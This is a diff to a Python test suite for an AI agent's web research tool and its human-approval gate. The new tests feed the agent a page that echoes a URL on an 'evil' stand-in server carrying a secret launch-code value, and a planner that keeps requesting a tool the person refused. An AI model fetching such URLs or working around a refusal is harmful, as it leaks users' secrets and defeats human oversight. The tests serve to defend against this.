@@ -96,6 +96,22 @@ def test_an_address_of_the_question_is_taken_as_it_stands(
     assert not any("7731" in path for path in evil.asked)
 
 
+def test_a_page_or_a_question_that_repeats_an_address_does_not_make_it_known(
+    home: Path, docs: Path, server: WebServer, evil: WebServer
+) -> None:
+    configure(home, server, evil, hosts='"127.0.0.1"')
+    away = evil.url("/?q=7731-quartz")
+    server.pages[f"/?q={away}"] = site.html(f"<p>Nothing was found for {away} here.</p>")
+    said = leaks(docs, home, "What is the launch code?", server.url(f"/?q={away}"), away)
+    assert "stands neither in the question nor on a page" in said
+    page = server.url("/page")
+    echo = ToolRequest(tool="internet.research", args={"urls": [page], "question": away})
+    plans = [executing(echo), fetching(away)]
+    with pytest.raises(PhaseError, match="stands neither in the question"):
+        asked(scripted_flow(home, docs, planner=plans), f"What does {page} say?")
+    assert evil.asked == []
+
+
 def test_a_redirect_carries_nothing_to_another_host(
     home: Path, docs: Path, server: WebServer, evil: WebServer
 ) -> None:
@@ -135,7 +151,7 @@ class Person:
 
 
 def test_what_a_person_refuses_is_planned_around(home: Path) -> None:
-    """Asked once; the tool is not offered again, and a plan that names it all the same goes on."""
+    """Asked once; the tool is not offered again, and a plan that names it all the same is over."""
     offered: list[set[str]] = []
     request = ToolRequest(tool="memory.create", args={"text": "tea"}, goal_id="g1")
 
@@ -147,8 +163,8 @@ def test_what_a_person_refuses_is_planned_around(home: Path) -> None:
     flow.services.gate.asker = Person("no")
     turn = asked(flow, "What is a topic?")
     refused = [(each.success, each.result) for each in turn.sections.coordinator]
-    assert refused == [(False, "not allowed by the person")] * 2
-    assert ["memory.create" in each for each in offered] == [True, False, False]
+    assert refused == [(False, "not allowed by the person")]
+    assert ["memory.create" in each for each in offered] == [True, False]
     assert turn.status == "answered"
     assert not [line for line in journal_lines(home) if line["event"] == "tool_started"]
     assert open_entries(home) == []
@@ -159,6 +175,14 @@ def test_a_refusal_is_said_in_the_answer_without_a_model(home: Path) -> None:
     turn = asked(flow, "use memory.create text=tea")
     assert turn.response == "memory.create was not allowed to run, so it did not."
     assert turn.abstained
+
+
+def test_a_planner_that_insists_on_what_was_refused_ends_in_an_answer(home: Path) -> None:
+    plan = executing(ToolRequest(tool="memory.create", args={"text": "tea"}, goal_id="g1"))
+    flow = scripted_flow(home, planner=[plan] * 9, synthesis=UNKNOWN)
+    flow.services.gate.asker = Person("no")
+    assert asked(flow, "What is a topic?").status == "answered"
+    assert open_entries(home) == []
 
 
 TOOL = '''
